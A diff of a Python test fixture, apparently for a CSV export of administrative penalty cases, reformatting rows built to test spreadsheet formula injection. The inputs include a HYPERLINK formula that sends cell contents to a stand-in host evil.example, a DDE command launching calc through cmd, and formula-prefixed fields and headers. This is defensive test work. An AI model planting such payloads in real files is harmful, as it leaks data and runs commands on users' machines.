@@ -24,23 +24,60 @@ from tests.conftest import account_headers
 
 LINK = '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")'
 CALC = "=cmd|' /C calc'!A0"
-TEXTS = {"violation_type": LINK, "enterprise_name": CALC, "description": "+SUM(1,2)",
-         "law_article": "-2+3", "status": "@SUM(1)"}  # fmt: skip
+TEXTS = {
+    "violation_type": LINK,
+    "enterprise_name": CALC,
+    "description": "+SUM(1,2)",
+    "law_article": "-2+3",
+    "status": "@SUM(1)",
+}
 
 
 def _cases(path: Path) -> Path:
     """Two located cases whose texts start like formulas, and one with a bad date whose
     cells (tab and carriage return first among them) go to the rejects."""
     rows = [
-        {"case_id": "INJ-1", "decision_date": "2024-03-01", "lon": 108.37, "lat": 22.82,
-         "crs": "WGS84", "penalty_amount": 5000, **TEXTS, "备注": "ok"},
-        {"case_id": "INJ-2", "decision_date": "2024-04-01", "lon": 108.40, "lat": 22.80,
-         "crs": "WGS84", "penalty_amount": 20000, **TEXTS, "备注": "ok"},
-        {"case_id": "=INJ-3", "decision_date": "2024-13-45", "lon": 108.40, "lat": 22.80,
-         "crs": "WGS84", "penalty_amount": 1, **TEXTS, "备注": "\t=1+1"},
-        {"case_id": "INJ-4", "decision_date": "2024-13-45", "lon": 108.40, "lat": 22.80,
-         "crs": "WGS84", "penalty_amount": 1, **TEXTS, "备注": "\r=1+1"},
-    ]  # fmt: skip
+        {
+            "case_id": "INJ-1",
+            "decision_date": "2024-03-01",
+            "lon": 108.37,
+            "lat": 22.82,
+            "crs": "WGS84",
+            "penalty_amount": 5000,
+            **TEXTS,
+            "备注": "ok",
+        },
+        {
+            "case_id": "INJ-2",
+            "decision_date": "2024-04-01",
+            "lon": 108.40,
+            "lat": 22.80,
+            "crs": "WGS84",
+            "penalty_amount": 20000,
+            **TEXTS,
+            "备注": "ok",
+        },
+        {
+            "case_id": "=INJ-3",
+            "decision_date": "2024-13-45",
+            "lon": 108.40,
+            "lat": 22.80,
+            "crs": "WGS84",
+            "penalty_amount": 1,
+            **TEXTS,
+            "备注": "\t=1+1",
+        },
+        {
+            "case_id": "INJ-4",
+            "decision_date": "2024-13-45",
+            "lon": 108.40,
+            "lat": 22.80,
+            "crs": "WGS84",
+            "penalty_amount": 1,
+            **TEXTS,
+            "备注": "\r=1+1",
+        },
+    ]
     frame = pd.DataFrame(rows).rename(columns={"备注": "=备注"})  # a hostile header too
     frame.to_csv(path, index=False, encoding="utf-8", lineterminator="\r\n")  # CR quoted
     return path
